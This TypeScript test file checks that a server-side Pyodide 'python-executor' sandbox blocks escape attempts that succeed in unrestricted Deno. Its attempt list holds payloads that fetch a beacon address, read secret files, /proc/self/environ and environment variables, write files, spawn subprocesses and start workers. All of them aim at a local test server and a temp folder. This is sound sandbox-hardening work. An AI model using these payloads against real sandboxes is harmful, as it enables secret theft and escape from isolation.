/** Python on the server is locked in: what gets out of a plain Pyodide in Deno does not get out of the function's worker. */
import { spawn } from 'node:child_process'
import { randomUUID } from 'node:crypto'
import { mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { text } from 'node:stream/consumers'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { z } from 'zod'
import { pythonAnswer } from '../../contract/run/pythonExecutor.ts'
import { buildPythonAssets } from '../../dev/build/buildPythonAssets.ts'
import { sharedBackend } from '../../dev/test/sharedBackend.ts'
import { signUpTestUser } from '../../dev/test/signUpTestUser.ts'
import { readAttempts } from '../../e2e/escapes/readAttempts.ts'
import { recordRequests } from '../../e2e/escapes/gatherEvidence.ts'
import { callFunction } from './callFunction.ts'

const secret = randomUUID()
const folder = mkdtempSync(join(tmpdir(), 'eliza-escapes-'))
const file = join(folder, 'secret.txt')
const server = createServer((_request, response) => response.end(secret))
const requests = recordRequests(server)
let origin: string

beforeAll(async () => {
  await buildPythonAssets()
  writeFileSync(file, secret)
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`
})
afterAll(() => {
  server.closeAllConnections()
  server.close()
  rmSync(folder, { recursive: true })
})

const inJavaScript = (code: string) =>
  `from pyodide.code import run_js\nvalue = run_js(${JSON.stringify(code)})\nstr(await value if hasattr(value, "then") else value)`

/** Each gives what it got hold of; BEACON, FILE and LEFT stand for an address, a file with a secret and one to make. */
const attempts: Readonly<Record<string, string>> = {
  fetch: 'import js\nawait (await js.fetch("BEACON")).text()',
  'fetch of Pyodide': 'from pyodide.http import pyfetch\nawait (await pyfetch("BEACON")).text()',
  'fetch in text': inJavaScript('fetch("BEACON").then((answer) => answer.text())'),
  'a synchronous request': 'from pyodide.http import open_url\nopen_url("BEACON").read()',
  urllib: 'import urllib.request\nurllib.request.urlopen("BEACON").read().decode()',
  'a web socket':
    'import js, asyncio\njs.WebSocket.new("BEACON".replace("http", "ws"))\nawait asyncio.sleep(1)',
  'a package from an address':
    'import pyodide_js\nawait pyodide_js.loadPackage("BEACON/a-1-py3-none-any.whl")',
  'a file by Deno': 'import js\njs.Deno.readTextFileSync("FILE")',
  'a file by Node': inJavaScript('import("node:fs").then((fs) => fs.readFileSync("FILE", "utf8"))'),
  'a file by a mount':
    'import pyodide_js\npyodide_js.mountNodeFS("/out", "FOLDER")\nopen("/out/secret.txt").read()',
  'a file by the inner file system':
    'import pyodide_js, js\nfs = pyodide_js._module.FS\nfs.mkdir("/in")\nfs.mount(fs.filesystems.NODEFS, js.JSON.parse(\'{"root": "FOLDER"}\'), "/in")\nopen("/in/secret.txt").read()',
  'a file by its path': 'open("FILE").read()',
  'a file by fetch': 'import js\nawait (await js.fetch("file://FILE")).text()',
  'a file that is written': 'import js\njs.Deno.writeTextFileSync("LEFT", "left")',
  'a program by os.system': 'import os\nos.system("echo left > LEFT")',
  'a program by Deno':
    'import js\nfrom pyodide.ffi import to_js\ncommand = js.Deno.Command.new("cat", to_js({"args": ["FILE"]}, dict_converter=js.Object.fromEntries))\njs.TextDecoder.new().decode(command.outputSync().stdout)',
  'a program by Node': inJavaScript(
    'import("node:child_process").then((it) => it.execSync("cat FILE", {encoding: "utf8"}))',
  ),
  'a program by subprocess': 'import subprocess\nsubprocess.check_output(["cat", "FILE"]).decode()',
  'the environment by Deno': 'import js\njs.Deno.env.get("ESCAPES_MARK")',
  'the environment by process': 'import js\njs.process.env.ESCAPES_MARK',
  'the environment by os': 'import os\nos.environ["ESCAPES_MARK"]',
  'the environment by /proc': 'open("/proc/self/environ").read()',
  'the environment by a function made from text':
    'import js\njs.Object.constructor("return Deno.env.get(\'ESCAPES_MARK\')")()',
  'another worker':
    'import js, asyncio\nfrom pyodide.ffi import to_js\njs.Worker.new("data:text/javascript,fetch(\'BEACON\')", to_js({"type": "module"}, dict_converter=js.Object.fromEntries))\nawait asyncio.sleep(1)',
}

const fill = (code: string, side: string, name: string): string =>
  code
    .replaceAll('BEACON', `${origin}/${mark(side, name)}`)
    .replaceAll('FILE', file)
    .replaceAll('FOLDER', folder)
    .replaceAll('LEFT', join(folder, mark(side, name)))
const mark = (side: string, name: string) => `${side}-${name.replaceAll(/\W/g, '-')}`

/** Which of them got out: the secret is in what they gave, or their mark was left outside. */
const escaped = (side: string, gave: Readonly<Record<string, string>>): string[] => {
  const left = [...requests, ...readdirSync(folder)].join('\n')
  return Object.keys(attempts).filter(
    (name) => gave[name]?.includes(secret) || left.includes(mark(side, name)),
  )
}

test(
  'what gets out of a plain Pyodide in Deno does not get out of python-executor',
  { timeout: 240_000 },
  async () => {
    const names = Object.keys(attempts)
    const plain = names.map((name) => [name, fill(attempts[name] ?? '', 'plain', name)] as const)
    const shown = escaped('plain', await runPlainly(plain))
    expect(shown.length).toBeGreaterThanOrEqual(15)

    const user = await signUpTestUser(sharedBackend)
    const run = async (code: string): Promise<string> => {
      const { status, body } = await callFunction('python-executor', { code }, { token: user.accessToken })
      expect(status).toBe(200)
      const { result, output, error_message: message } = pythonAnswer.parse(body)
      return `${String(result)}\n${output}\n${message ?? ''}`
    }
    const gave: Record<string, string> = {}
    for (const name of names) gave[name] = await run(fill(attempts[name] ?? '', 'server', name))
    expect(escaped('server', gave)).toEqual([])

    // Attempts against the browser's worker must fail here, too.
    const { all, scripts } = await readAttempts(origin, 'browser')
    let reports = ''
    for (const script of scripts) reports += await run(script)
    expect(all.filter((each) => !each.breaks && !reports.includes(`${each.name}: `))).toEqual([])
    // Attempts that are under way or were scheduled may arrive late.
    await new Promise((resolve) => setTimeout(resolve, 1_000))
    expect(all.filter((each) => requests.some((url) => url.includes(each.mark)))).toEqual([])
    expect(escaped('server', gave)).toEqual([])
    expect(await run('"still " + "works"')).toContain('still works')
    process.stdout.write(
      `${shown.length} attempts get out of a plain Pyodide in Deno; of ${names.length + all.length} none gets out of python-executor\n`,
    )
  },
)

/** In a process of its own, which has every right. */
async function runPlainly(scripts: readonly (readonly [string, string])[]): Promise<Record<string, string>> {
  const flags = ['run', '--quiet', '--no-lock', '--no-remote', '--allow-all', '--node-modules-dir=manual']
  const deno = spawn('node_modules/deno/deno', [...flags, 'supabase/tests/escapes/plainPython.ts'], {
    env: { ...process.env, ESCAPES_MARK: secret, NO_COLOR: '1', DENO_NO_UPDATE_CHECK: '1' },
    stdio: ['pipe', 'pipe', 'ignore'],
  })
  deno.stdin.end(JSON.stringify(scripts))
  const lines = (await text(deno.stdout)).split('\n').filter((line) => line.startsWith('["'))
  return Object.fromEntries(lines.map((line) => z.tuple([z.string(), z.string()]).parse(JSON.parse(line))))
}
